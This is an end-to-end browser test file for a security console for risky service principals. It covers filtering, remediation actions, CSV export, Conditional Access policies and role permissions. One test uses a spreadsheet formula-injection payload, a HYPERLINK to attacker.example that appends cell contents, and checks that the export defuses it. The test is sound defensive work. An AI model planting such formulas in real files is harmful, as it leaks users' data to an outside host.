// Functions given to page.evaluate and waitForFunction run in the browser: they see the DOM.
/// <reference lib="dom" />
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { BrowserContext, Page } from 'playwright-core';
import { column, countText, reloading, signIn, waitForRows } from '../support/console-page.ts';
import {
  type ConsoleTenant,
  FORMULA_NAME,
  SCREENSHOTS,
  serveConsoleTenant,
  useConsoleRun,
} from '../support/console-tenant.ts';
import { createTestStore, dialects, type TestStore } from '../support/dialects.ts';

// An analyst's morning in the console, in a real Chromium against the real server: sign in with a
// key, narrow the risky workload identities, open one and read why it was flagged, act on two,
// download the list, and turn on a Conditional Access policy after seeing what it would block.

const RISKY = '/v1.0/identityProtection/riskyServicePrincipals';
const run = useConsoleRun(808);

interface Risky {
  id: string;
  displayName: string | null;
  riskLevel: string;
  riskState: string;
}

for (const dialect of dialects) {
  describe(`the console on ${dialect}`, () => {
    let t: TestStore;
    let tenant: ConsoleTenant;
    let admin: string;
    let reader: string;
    let context: BrowserContext;
    let page: Page;
    before(async () => {
      t = await createTestStore(dialect);
      tenant = await serveConsoleTenant(t, run.out, run.labels);
      admin = await tenant.key('security-administrator');
      reader = await tenant.key('security-reader');
      context = await run.browser.newContext({
        viewport: { width: 1280, height: 800 },
        acceptDownloads: true,
      });
      page = await signIn(context, tenant.origin, admin);
    });
    after(async () => {
      await context?.close();
      await tenant?.close();
      await t?.cleanup();
    });

    test('the page is served with a strict CSP, long caching for hashed assets and no-cache for the page', async () => {
      const index = await fetch(`${tenant.origin}/`);
      assert.equal(index.status, 200);
      const csp = index.headers.get('content-security-policy') ?? '';
      assert.match(csp, /default-src 'self'/);
      assert.match(csp, /script-src 'self'(;|$)/);
      assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
      assert.equal(index.headers.get('cache-control'), 'no-cache');
      const html = await index.text();
      assert.doesNotMatch(
        html,
        /<script>(?!<\/script>)|<script(?![^>]*\bsrc=)[^>]*>[^<]/,
        'no inline script',
      );
      const script = /src="(\/assets\/[^"]+\.js)"/.exec(html)?.[1];
      assert.ok(script, html);
      const asset = await fetch(`${tenant.origin}${script}`);
      assert.equal(asset.headers.get('cache-control'), 'public, max-age=31536000, immutable');
      assert.equal((await fetch(`${tenant.origin}/assets/nope.js`)).status, 404);
      const config = await fetch(`${tenant.origin}/console/config.json`);
      assert.deepEqual(await config.json(), { oidc: null });
    });

    test('after signing in, the risky table lists the at-risk principals with their levels and count', async () => {
      const api = await tenant.get<{ value: Risky[]; '@odata.count': number }>(
        `${RISKY}?$count=true&$top=500`,
        admin,
      );
      assert.ok(api['@odata.count'] > 10, 'the simulated tenant has risky principals');
      assert.equal(await countText(page), `${api['@odata.count']} risky workload identities`);
      const names = await column(page, 'Name');
      const levels = await column(page, 'Risk level');
      assert.equal(names.length, Math.min(25, api.value.length));
      for (const [i, name] of names.entries()) {
        const row = api.value.find((r) => (r.displayName ?? r.id) === name);
        assert.ok(row, `${name} is a risky principal`);
        assert.equal(levels[i], row.riskLevel);
      }
      await page.screenshot({ path: join(SCREENSHOTS, `risky-${dialect}.png`), fullPage: true });
    });

    test('filtering by level changes the rows and the count', async () => {
      const high = await tenant.get<{ '@odata.count': number }>(
        `${RISKY}?$count=true&$filter=${encodeURIComponent("riskLevel eq 'high'")}`,
        admin,
      );
      await page.getByLabel('Risk level').selectOption('high');
      await page.waitForFunction(
        (n) => document.querySelector('main p.count')?.textContent?.startsWith(`${n} `),
        high['@odata.count'],
      );
      await waitForRows(page);
      const levels = await column(page, 'Risk level');
      assert.equal(levels.length, high['@odata.count']);
      assert.ok(
        levels.every((l) => l === 'high'),
        levels.join(),
      );
      await page.getByLabel('Risk level').selectOption('medium');
      await page.waitForFunction(() => document.querySelector('main p.count')?.textContent?.startsWith('1 '));
      await waitForRows(page);
      assert.deepEqual(await column(page, 'Name'), [FORMULA_NAME], 'a name is shown as text, never run');
      await reloading(page, () => page.getByRole('button', { name: 'Clear filters' }).click());
    });

    test('sorting by name orders the rows as the API does', async () => {
      await reloading(page, () => page.getByRole('button', { name: /^Name/ }).click());
      assert.equal(
        await page
          .locator('th[aria-sort="ascending"]')
          .textContent()
          .then((s) => s?.replace(/[▲▼↕]/g, '').trim()),
        'Name',
      );
      const api = await tenant.get<{ value: Risky[] }>(`${RISKY}?$orderby=displayName asc&$top=25`, admin);
      assert.deepEqual(
        await column(page, 'Name'),
        api.value.map((r) => r.displayName ?? r.id),
      );
      await reloading(page, () => page.getByRole('button', { name: /^Name/ }).click());
      assert.equal(await page.locator('th[aria-sort="descending"]').count(), 1);
    });

    test('next and previous pages walk the server-side pages', async () => {
      const total = (await tenant.get<{ '@odata.count': number }>(`${RISKY}?$count=true`, admin))[
        '@odata.count'
      ];
      await reloading(page, () => page.getByLabel('Rows per page').selectOption('10'));
      const first = await column(page, 'Name');
      assert.equal(first.length, 10);
      const pager = page.locator('nav.pager .where');
      assert.equal(await pager.textContent(), `Page 1 · 1–10 of ${total}`);
      await reloading(page, () => page.getByRole('button', { name: 'Next →' }).click());
      assert.equal(await pager.textContent(), `Page 2 · 11–${Math.min(20, total)} of ${total}`);
      const second = await column(page, 'Name');
      assert.ok(
        second.every((n) => !first.includes(n)),
        'page 2 has other rows',
      );
      await reloading(page, () => page.getByRole('button', { name: '← Previous' }).click());
      assert.deepEqual(await column(page, 'Name'), first);
      await reloading(page, () => page.getByLabel('Rows per page').selectOption('25'));
    });

    test('two principals confirmed compromised show it after the dialog, and the API agrees; one dismissed', async () => {
      await reloading(page, () => page.getByLabel('Risk level').selectOption('low'));
      const names = await column(page, 'Name');
      assert.ok(names.length >= 3);
      // The one to dismiss is found by a name search later: pick one no other name contains.
      const c = names.find((n) => names.every((m) => m === n || !m.includes(n))) as string;
      const [a, b] = names.filter((n) => n !== c) as [string, string];
      await page.getByLabel(`Select ${a}`, { exact: true }).check();
      await page.getByLabel(`Select ${b}`, { exact: true }).check();
      await page.getByRole('button', { name: 'Confirm compromised' }).click();
      const dialog = page.getByRole('dialog');
      await dialog.waitFor();
      const said = (await dialog.textContent()) ?? '';
      assert.match(said, /Confirm 2 service principals compromised\?/);
      assert.ok(said.includes(a) && said.includes(b), 'the dialog names both principals');
      assert.match(said, /risk level becomes high/);
      await page.screenshot({ path: join(SCREENSHOTS, `confirm-dialog-${dialect}.png`) });
      await reloading(page, () => dialog.getByRole('button', { name: 'Confirm compromised' }).click());
      await page
        .getByRole('status')
        .filter({ hasText: 'Confirmed compromised: 2 service principals' })
        .waitFor();
      // They are no longer low: the filter now shows the others.
      await waitForRows(page);
      await reloading(page, () => page.getByLabel('Risk level').selectOption(''));
      await reloading(page, () => page.getByLabel('Risk state').selectOption('confirmedCompromised'));
      assert.deepEqual((await column(page, 'Name')).sort(), [a, b].sort());
      assert.deepEqual(await column(page, 'State'), ['confirmed compromised', 'confirmed compromised']);
      const api = await tenant.get<{ value: Risky[] }>(
        `${RISKY}?$filter=${encodeURIComponent("riskState eq 'confirmedCompromised'")}`,
        admin,
      );
      assert.deepEqual(api.value.map((r) => r.displayName).sort(), [a, b].sort());
      assert.ok(api.value.every((r) => r.riskLevel === 'high'));

      await page.getByLabel('Risk state').selectOption('');
      await page.getByLabel('Name contains').fill(c);
      await page.getByLabel('Name contains').press('Enter');
      await page.waitForFunction((name) => {
        const rows = [...document.querySelectorAll('main tbody tr')];
        return rows.length === 1 && rows[0]?.textContent?.includes(name);
      }, c);
      await page.getByLabel(`Select ${c}`, { exact: true }).check();
      await page.getByRole('button', { name: 'Dismiss risk' }).click();
      await reloading(page, () =>
        page.getByRole('dialog').getByRole('button', { name: 'Dismiss risk' }).click(),
      );
      await page
        .getByRole('status')
        .filter({ hasText: 'Dismissed the risk of 1 service principal' })
        .waitFor();
      await waitForRows(page);
      assert.deepEqual(await column(page, 'State'), ['dismissed']);
      const dismissed = await tenant.get<{ value: Risky[] }>(
        `${RISKY}?$filter=${encodeURIComponent("riskState eq 'dismissed'")}`,
        admin,
      );
      assert.deepEqual(
        dismissed.value.map((r) => [r.displayName, r.riskLevel]),
        [[c, 'none']],
      );
      await reloading(page, () => page.getByRole('button', { name: 'Clear filters' }).click());
    });

    test('disabling a service principal goes through PATCH /servicePrincipals/{id}', async () => {
      await page.getByLabel('Name contains').fill('HYPERLINK');
      await page.getByLabel('Name contains').press('Enter');
      await page.waitForFunction(() => document.querySelector('main p.count')?.textContent?.startsWith('1 '));
      await waitForRows(page);
      await page.getByLabel(`Select ${FORMULA_NAME}`, { exact: true }).check();
      const disable = page.getByRole('button', { name: 'Disable service principal' });
      assert.equal(await disable.isDisabled(), false, 'a security administrator may disable');
      await disable.click();
      await reloading(page, () => page.getByRole('dialog').getByRole('button', { name: 'Disable' }).click());
      await page.getByRole('status').filter({ hasText: 'Disabled 1 service principal' }).waitFor();
      const sp = await tenant.get<{ accountEnabled: boolean }>(
        `/v1.0/servicePrincipals/${tenant.formulaPrincipalId}`,
        admin,
      );
      assert.equal(sp.accountEnabled, false);
      await reloading(page, () => page.getByRole('button', { name: 'Clear filters' }).click());
    });

    test('CSV download of the current filter matches the API, and a formula name is defused', async () => {
      await reloading(page, () => page.getByLabel('Risk level').selectOption('high'));
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Download CSV' }).click(),
      ]);
      const csv = readFileSync((await download.path()) as string, 'utf8');
      assert.ok(csv.startsWith('\uFEFFName,Object ID,App ID,Type,Risk level,'), csv.slice(0, 80));
      const lines = csv.slice(1).trimEnd().split('\r\n');
      const api = await tenant.get<{ value: Risky[] }>(
        `${RISKY}?$filter=${encodeURIComponent("riskLevel eq 'high'")}&$orderby=displayName desc&$top=500`,
        admin,
      );
      assert.deepEqual(
        lines.slice(1).map((l) => l.split(',')[1]),
        api.value.map((r) => r.id),
        'the same principals, in the same order',
      );
      assert.ok(lines.slice(1).every((l) => l.split(',')[4] === 'high'));

      await page.getByLabel('Risk level').selectOption('');
      await page.getByLabel('Name contains').fill('HYPERLINK');
      await page.getByLabel('Name contains').press('Enter');
      await page.waitForFunction(() => document.querySelector('main p.count')?.textContent?.startsWith('1 '));
      const [formula] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Download CSV' }).click(),
      ]);
      const text = readFileSync((await formula.path()) as string, 'utf8');
      const row = text.split('\r\n')[1] ?? '';
      assert.ok(row.startsWith(`"'=HYPERLINK(""https://attacker.example/x?""&A1,""Open report"")",`), row);
      await reloading(page, () => page.getByRole('button', { name: 'Clear filters' }).click());
    });

    test("a principal's page explains its detection in sentences, charts its sign-ins and lists its credentials", async () => {
      const detections = await tenant.get<{ value: { servicePrincipalId: string; riskEventType: string }[] }>(
        `/v1.0/identityProtection/servicePrincipalRiskDetections?$filter=${encodeURIComponent("riskEventType eq 'suspiciousSignins'")}&$top=1`,
        admin,
      );
      const id = detections.value[0]?.servicePrincipalId;
      assert.ok(id);
      await page.goto(`${tenant.origin}/#/principals/${id}`);
      await page.getByRole('heading', { name: 'Overview' }).waitFor();
      // Earlier tests may have confirmed this principal compromised: its own detection is listed too.
      const suspicious = page.locator('ol.detections li', { hasText: 'Suspicious sign-ins' }).first();
      await suspicious.waitFor();
      const explanation = (await suspicious.locator('.explanation').first().textContent()) ?? '';
      assert.match(explanation, /had never been seen for this principal/);
      assert.match(explanation, /The baseline it broke was learned from [\d,]+ successful sign-ins/);
      assert.doesNotMatch(explanation, /[{[]"/, 'no raw JSON');
      await page.locator('.chart canvas').first().waitFor();
      assert.ok((await page.locator('.chart canvas').count()) >= 2, 'a chart by ASN and one by country');
      assert.match((await page.locator('.chart').first().textContent()) ?? '', /AS\d+/);
      await page.locator('tr.credential').first().waitFor();
      const inventory = await tenant.get<{ value: unknown[] }>(
        `/vigil/servicePrincipals/${id}/credentials`,
        admin,
      );
      assert.equal(await page.locator('tr.credential').count(), inventory.value.length);
      await page.getByRole('heading', { name: 'Risk history' }).waitFor();
      assert.ok((await page.locator('ol.timeline li').count()) >= 1);
      // The investigation shows the server's four answers, each with its verdict.
      const asked = await tenant.get<{ questions: { title: string; verdict: string }[] }>(
        `${RISKY}/${id}/investigation`,
        admin,
      );
      assert.equal(asked.questions.length, 4);
      const questions = page.locator('section[aria-labelledby="s-investigation"] ol.questions > li h3');
      await questions.first().waitFor();
      assert.deepEqual(
        await questions.allTextContents(),
        asked.questions.map((q) => `${q.title} ${q.verdict.replace(/([A-Z])/g, ' $1').toLowerCase()}`),
      );
      assert.ok(
        asked.questions.some((q) => q.verdict !== 'nothingFound'),
        'a principal with a suspicious sign-in has something found',
      );
      await page.screenshot({ path: join(SCREENSHOTS, `principal-${dialect}.png`), fullPage: true });

      // Acting from the principal's own page: the overview and the history follow.
      await page.getByRole('button', { name: 'Dismiss risk' }).click();
      const dialog = page.getByRole('dialog');
      assert.match((await dialog.textContent()) ?? '', new RegExp(id));
      await dialog.getByRole('button', { name: 'Dismiss risk' }).click();
      await page
        .getByRole('status')
        .filter({ hasText: 'Dismissed the risk of 1 service principal' })
        .waitFor();
      await page.locator('.overview .state-dismissed').waitFor();
      await page.locator('ol.timeline li', { hasText: 'by apiKey:' }).first().waitFor();
      const risky = await tenant.get<Risky>(`${RISKY}/${id}`, admin);
      assert.deepEqual([risky.riskLevel, risky.riskState], ['none', 'dismissed']);
    });

    test('a remediation plan is started from the principal page and its steps are marked there', async () => {
      const high = await tenant.get<{ value: Risky[] }>(
        `${RISKY}?$filter=${encodeURIComponent("riskLevel eq 'high' and riskState eq 'atRisk'")}&$top=1`,
        admin,
      );
      const id = high.value[0]?.id;
      assert.ok(id);
      await page.goto(`${tenant.origin}/#/principals/${id}`);
      const section = page.locator('section[aria-labelledby="s-remediation"]');
      await section.getByRole('button', { name: 'Start remediation' }).click();
      await section.locator('ol.steps li').first().waitFor();
      const steps = await section.locator('ol.steps > li strong').allTextContents();
      assert.equal(steps[0], 'Review the credential inventory');
      assert.ok(steps.length >= 4, steps.join(' | '));
      await section.getByRole('button', { name: 'Mark reviewed' }).click();
      await section
        .locator('ol.steps > li.step-done', { hasText: 'Review the credential inventory' })
        .waitFor();
      const plan = await tenant.get<{ steps: { name: string; state: string; completedBy: string | null }[] }>(
        `${RISKY}/${id}/remediation`,
        admin,
      );
      const review = plan.steps.find((s) => s.name === 'reviewInventory');
      assert.equal(review?.state, 'done');
      await page.screenshot({ path: join(SCREENSHOTS, `remediation-${dialect}.png`), fullPage: true });
    });

    test('the detections report filters by type and level and links to the principal', async () => {
      await page.goto(`${tenant.origin}/#/detections`);
      await page.getByRole('heading', { name: 'Workload identity detections', level: 1 }).waitFor();
      await waitForRows(page);
      await reloading(page, () => page.getByLabel('Detection type').selectOption('suspiciousSignins'));
      const api = await tenant.get<{ '@odata.count': number }>(
        `/v1.0/identityProtection/servicePrincipalRiskDetections?$count=true&$filter=${encodeURIComponent("riskEventType eq 'suspiciousSignins'")}`,
        admin,
      );
      await page.waitForFunction(
        (n) => document.querySelector('main p.count')?.textContent === `${n} detections`,
        api['@odata.count'],
      );
      assert.ok((await column(page, 'Type')).every((x) => x === 'Suspicious sign-ins'));
      await page.screenshot({ path: join(SCREENSHOTS, `detections-${dialect}.png`), fullPage: true });
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Download CSV' }).click(),
      ]);
      const lines = readFileSync((await download.path()) as string, 'utf8')
        .trimEnd()
        .split('\r\n');
      assert.match(lines[0] ?? '', /^\uFEFFDetected,Activity time,Detection type,Risk level,/);
      assert.equal(lines.length - 1, api['@odata.count']);
      assert.ok(lines.slice(1).every((l) => l.split(',')[2] === 'suspiciousSignins'));
    });

    test('a Conditional Access policy shows its what-if before it is enabled', async () => {
      await page.goto(`${tenant.origin}/#/conditional-access`);
      await page.getByRole('heading', { name: 'Policies' }).waitFor();
      await page.getByRole('button', { name: 'New named location' }).click();
      await page.getByLabel('Name', { exact: true }).fill('Build agents');
      await page.getByLabel('CIDR ranges, one a line').fill('20.85.12.0/24\n2001:db8::/48');
      await page.getByLabel('Trusted location').check();
      await page.getByRole('button', { name: 'Save named location' }).click();
      await page.getByRole('status').filter({ hasText: 'Saved named location Build agents' }).waitFor();
      await page.getByRole('cell', { name: '20.85.12.0/24, 2001:db8::/48' }).waitFor();
      const locations = await tenant.get<{ value: { displayName: string; isTrusted: boolean }[] }>(
        '/v1.0/identity/conditionalAccess/namedLocations',
        admin,
      );
      assert.deepEqual(
        locations.value.map((l) => [l.displayName, l.isTrusted]),
        [['Build agents', true]],
      );
      await page.getByRole('button', { name: 'New policy' }).click();
      await page.getByLabel('Name', { exact: true }).fill('Block high-risk workloads');
      await page.getByLabel('State').selectOption('enabled');
      await page.getByLabel('high', { exact: true }).check();
      await page.getByRole('button', { name: 'Review impact before enabling' }).click();
      const summary = page.locator('.what-if-summary');
      await summary.waitFor();
      assert.match(
        (await summary.textContent()) ?? '',
        /this policy would have blocked [\d,]+ sign-ins? of [\d,]+, from \d+ principals?/,
      );
      await page.screenshot({ path: join(SCREENSHOTS, `what-if-${dialect}.png`), fullPage: true });
      await page.getByRole('button', { name: 'Enable policy' }).click();
      await page.getByRole('status').filter({ hasText: 'Saved policy Block high-risk workloads' }).waitFor();
      const policies = await tenant.get<{
        value: { displayName: string; state: string; conditions: { servicePrincipalRiskLevels: string[] } }[];
      }>('/v1.0/identity/conditionalAccess/policies', admin);
      assert.deepEqual(
        policies.value.map((p) => [p.displayName, p.state, p.conditions.servicePrincipalRiskLevels]),
        [['Block high-risk workloads', 'enabled', ['high']]],
      );
      await page.getByRole('cell', { name: 'Block high-risk workloads', exact: true }).waitFor();
      await page.screenshot({ path: join(SCREENSHOTS, `conditional-access-${dialect}.png`), fullPage: true });
    });

    test('keyboard: Tab reaches the filters and the table, and focus is visible', async () => {
      await page.goto(`${tenant.origin}/#/risky`);
      await waitForRows(page);
      await page.locator('body').click({ position: { x: 1, y: 1 } });
      const reached: string[] = [];
      let outline = '';
      for (let i = 0; i < 40; i++) {
        await page.keyboard.press('Tab');
        const focused = await page.evaluate(() => {
          const el = document.activeElement as HTMLElement | null;
          if (!el) return null;
          const style = getComputedStyle(el);
          return {
            name: el.getAttribute('name') ?? el.getAttribute('aria-label') ?? el.tagName,
            inTable: el.closest('table') !== null || el.classList.contains('table-wrap'),
            outline: `${style.outlineStyle} ${style.outlineWidth}`,
          };
        });
        if (!focused) continue;
        reached.push(focused.inTable ? 'table' : focused.name);
        if (focused.name === 'level') outline = focused.outline;
        if (focused.inTable) break;
      }
      assert.ok(reached.includes('level'), `the level filter is reachable: ${reached.join(' → ')}`);
      assert.ok(reached.includes('table'), `the table is reachable: ${reached.join(' → ')}`);
      assert.match(outline, /^solid [1-9]/, 'the focused control has a visible outline');
    });

    test('a narrow window keeps the page usable: the table scrolls, nothing overflows the page', async () => {
      // The same tab: the sign-in lives in this tab's sessionStorage.
      await page.setViewportSize({ width: 420, height: 800 });
      try {
        await page.goto(`${tenant.origin}/#/risky`);
        await waitForRows(page);
        const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
        assert.ok(overflow <= 1, `the page is ${overflow}px wider than the window`);
        await page.screenshot({ path: join(SCREENSHOTS, `risky-narrow-${dialect}.png`), fullPage: true });
      } finally {
        await page.setViewportSize({ width: 1280, height: 800 });
      }
    });

    test('a security reader sees the actions disabled, and the API refuses them anyway', async () => {
      const readerContext = await run.browser.newContext({ viewport: { width: 1280, height: 800 } });
      try {
        const readerPage = await signIn(readerContext, tenant.origin, reader);
        const first = (await column(readerPage, 'Name'))[0] as string;
        await readerPage.getByLabel(`Select ${first}`, { exact: true }).check();
        for (const name of ['Confirm compromised', 'Dismiss risk', 'Disable service principal']) {
          assert.equal(
            await readerPage.getByRole('button', { name }).isDisabled(),
            true,
            `${name} is disabled`,
          );
        }
        assert.match((await readerPage.locator('#no-write-reason').textContent()) ?? '', /security-reader/);
        const refused = await fetch(`${tenant.origin}${RISKY}/dismiss`, {
          method: 'POST',
          headers: { authorization: `Bearer ${reader}`, 'content-type': 'application/json' },
          body: JSON.stringify({ servicePrincipalIds: [tenant.formulaPrincipalId] }),
        });
        assert.equal(refused.status, 403);
        await readerPage.goto(`${tenant.origin}/#/conditional-access`);
        await readerPage.getByRole('heading', { name: 'Policies' }).waitFor();
        assert.equal(await readerPage.getByRole('button', { name: 'New policy' }).isDisabled(), true);
      } finally {
        await readerContext.close();
      }
    });
  });
}
